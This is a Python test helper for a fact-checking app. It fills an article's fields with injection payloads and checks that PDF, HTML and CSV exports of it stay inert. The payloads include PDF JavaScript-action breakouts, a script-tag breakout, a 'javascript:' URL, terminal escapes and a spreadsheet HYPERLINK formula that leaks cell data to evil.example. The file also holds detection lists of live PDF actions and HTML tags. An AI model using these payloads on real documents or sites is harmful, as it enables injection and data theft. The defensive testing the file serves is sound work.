"""An article whose every field holds what a hostile page (or a crafted workspace) can put
there, and checks that an export of it carries nothing live. Shared by the report tests.

The payloads are those of issue 13: a link that closes the PDF string of its link action
and opens a JavaScript action, a `</script>` that ends ClaimReview's script element, a
`javascript:` publisher URL, formulas after a `;` for spreadsheets of semicolon locales,
terminal control sequences, and a ClaimReview URL pattern whose format spec asks for
gigabytes.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

from factcheck_app.domain.models import Source, SourceLink, Stance, Tag
from factcheck_app.services.desk import Desk, NewSource

PDF_URL = "https://news.example/a)/Next<</S/JavaScript/JS(app.alert(2))>>/X("
PDF_SOURCE_URL = "https://news.example/b)/S/JavaScript/JS(app.alert(1)"
SCRIPT = "</script><script>alert(1)</script>"
JS_URL = "javascript:alert(5)"
SEMICOLON = "See note;=2+5;and more"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
TERMINAL = "\x1b]0;title\x07\x1b[2J"
HUGE_PATTERN = "https://ex.example/{number:>3000000000}"
# A usable pattern that still carries characters that mean something in the formats.
PATTERN = "https://checks.example/{slug}/</script>(x)\\y#claim-{number}"
EVERYTHING = f"{SCRIPT} {HYPERLINK} {SEMICOLON} {TERMINAL}"

ARTICLE_TEXT = (
    f"{HYPERLINK} is what the page said.\n\n"
    f"The minister said {SCRIPT} was harmless, officials added.\n\n"
    f"{SEMICOLON} about the claim.\n\n"
    f"The mayor denied it {TERMINAL} on Sunday. Nothing else happened."
)

# Action names a PDF reader runs or follows on its own.
LIVE_PDF_NAMES = {
    "/JavaScript",
    "/JS",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/ResetForm",
    "/GoToR",
    "/GoToE",
    "/RichMedia",
    "/OpenAction",
    "/AA",
}
FORMULA_STARTS = ("=", "+", "-", "@")


def hostile_article(desk: Desk, *, explanation_tail: str = "") -> int:
    """Import the hostile article and fill every field a report shows with the payloads
    (`explanation_tail` goes on the first sentence's explanation).

    The article URL, one source URL and the publishing settings are written straight into
    the workspace, as an older desk's import or a crafted workspace would have stored them.
    """
    article_id = desk.importer.import_text(ARTICLE_TEXT).article_id
    repo = desk.repo
    metadata = repo.articles.article_metadata(article_id)
    metadata.title = f"Title {EVERYTHING}"
    metadata.outlet = f"{SCRIPT}{HYPERLINK}"
    metadata.author = f"{TERMINAL}{SEMICOLON}"
    metadata.url = PDF_URL
    with repo.db.atomic():
        repo.articles.update_article_metadata(article_id, metadata)
        repo.settings.set_setting("publisher.name", f"{SCRIPT}{HYPERLINK}")
        repo.settings.set_setting("publisher.url", JS_URL)
        repo.settings.set_setting("claimreview.url_pattern", PATTERN)
    ids = [row.sentence.id for row in desk.reviews.sentence_rows(article_id)]
    for number, sentence_id in enumerate(ids):
        desk.reviews.set_tag(sentence_id, Tag.DENIAL if number == 3 else Tag.CLAIM)
        desk.reviews.set_text_field(sentence_id, "claimant", f"{SCRIPT}{HYPERLINK}{TERMINAL}")
        desk.reviews.set_text_field(
            sentence_id,
            "explanation",
            f"{SEMICOLON}\n\n{SCRIPT}{TERMINAL}\n\n{HYPERLINK}\n\n-1+2\n@SUM(A1)",
        )
        desk.reviews.set_verdict(sentence_id, "false")
    if explanation_tail:
        # Past the 1,000,000 characters the desk now refuses where typed: stored straight,
        # as an older desk did, which every report must still cope with.
        review = repo.reviews.get_review(ids[0])
        longer = review.edited(explanation=review.explanation + explanation_tail)
        version = repo.reviews.version(ids[0], review.reviewer)
        with repo.db.atomic():
            repo.reviews.save_review(longer)
            if version is not None:
                repo.reviews.save_version(
                    version.edited(explanation=version.explanation + explanation_tail)
                )
    desk.sources.link_source(
        ids[0],
        NewSource(
            url=PDF_SOURCE_URL,
            title=SCRIPT,
            publisher=HYPERLINK,
            stance=Stance.REFUTES,
            excerpt=f"{SEMICOLON}\n{SCRIPT}",
        ),
    )
    with repo.db.atomic():
        for url in (JS_URL, PDF_URL):
            source = Source(0, url, f"{HYPERLINK}{TERMINAL}", SCRIPT)
            source = Source(repo.sources.insert_source(source), url, source.title, source.publisher)
            repo.sources.insert_link(SourceLink(0, ids[1], source, Stance.CONTEXT, EVERYTHING))
    return article_id


# -- inspecting exports ------------------------------------------------------------------------


def pdf_objects(reader: Any) -> Iterator[Any]:
    """Every object reachable from the PDF's trailer, once each (pypdf objects)."""
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    seen: set[tuple[int, int]] = set()
    stack: list[Any] = [reader.trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            key = (item.idnum, item.generation)
            if key in seen:
                continue
            seen.add(key)
            item = item.get_object()
        yield item
        if isinstance(item, DictionaryObject):  # streams too: their dictionary
            for name, value in item.items():
                yield name
                stack.append(value)
        elif isinstance(item, ArrayObject):
            stack.extend(item)


def pdf_problems(reader: Any) -> list[str]:
    """Live actions, names and links in a PDF: what a reader would run or follow."""
    from pypdf.generic import DictionaryObject, NameObject

    problems = []
    for item in pdf_objects(reader):
        if isinstance(item, NameObject) and str(item) in LIVE_PDF_NAMES:
            problems.append(f"name {item}")
        if isinstance(item, DictionaryObject) and "/URI" in item:
            uri = str(item["/URI"])
            if not re.fullmatch(r"https?://[A-Za-z0-9\-._~:/?#\[\]@!$&*+,;=%]+", uri):
                problems.append(f"link {uri!r}")
            if item.get("/S") != "/URI":
                problems.append(f"action {item.get('/S')}")
    return problems


class TagCollector(HTMLParser):
    """Start tags with their attributes and the text, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.data: list[tuple[str | None, str]] = []
        self._open: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._open = tag

    def handle_endtag(self, tag: str) -> None:
        self._open = None

    def handle_data(self, data: str) -> None:
        self.data.append((self._open, data))


def parse_html(markup: str) -> TagCollector:
    parser = TagCollector()
    parser.feed(markup)
    parser.close()
    return parser


def html_problems(markup: str) -> list[str]:
    """Scripts, frames, event handlers, loads and non-http links in an HTML page."""
    problems = []
    for tag, attrs in parse_html(markup).tags:
        refresh = "refresh" in str(attrs.get("http-equiv") or "").lower()
        if tag in ("script", "iframe", "object", "embed", "img", "link", "base", "form"):
            problems.append(f"<{tag}>")
        if tag == "meta" and refresh:
            problems.append("<meta refresh>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("src", "srcdoc", "action", "formaction"):
                problems.append(f"<{tag} {name}>")
            if name == "href" and not re.match(r"(#|https?://)", value or ""):
                problems.append(f"<{tag} href={value!r}>")
    return problems


def csv_cells(text: str) -> Iterator[str]:
    """Every cell a spreadsheet could see in `text`: read with a comma, a semicolon or a tab
    as the list separator (quotes honoured only at a cell's start, as Excel does), and split
    at every separator and line end regardless of quotes as well."""
    body = text.removeprefix("\ufeff")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter):
            yield from row
        for line in body.splitlines():
            yield from line.split(delimiter)


def live_formula(cell: str) -> bool:
    """A cell a spreadsheet would evaluate (leading spaces and quotes are skipped by some)."""
    return cell.lstrip(' "').startswith(FORMULA_STARTS)
